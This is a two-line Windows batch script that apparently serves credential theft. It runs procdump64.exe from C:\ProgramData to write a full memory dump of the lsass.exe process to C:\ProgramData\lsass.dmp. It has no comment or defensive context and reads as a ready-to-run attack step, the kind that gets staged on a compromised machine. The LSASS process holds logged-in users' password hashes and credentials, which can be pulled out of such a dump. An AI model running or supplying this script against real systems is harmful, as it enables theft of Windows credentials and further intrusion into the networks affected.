@echo off
C:\ProgramData\procdump64.exe -accepteula -ma lsass.exe C:\ProgramData\lsass.dmp
